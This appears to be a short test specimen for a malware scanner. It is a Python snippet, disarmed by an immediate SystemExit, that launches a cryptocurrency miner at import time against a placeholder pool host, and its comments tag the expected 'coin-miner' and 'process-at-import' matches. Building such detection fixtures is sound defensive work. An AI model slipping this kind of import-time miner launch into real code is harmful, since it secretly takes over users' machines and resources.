raise SystemExit("specimen: not to be run")
import subprocess

subprocess.Popen(["miner", "-o", "stratum+tcp://pool.example.com:3333"])  # match: coin-miner  # match: process-at-import
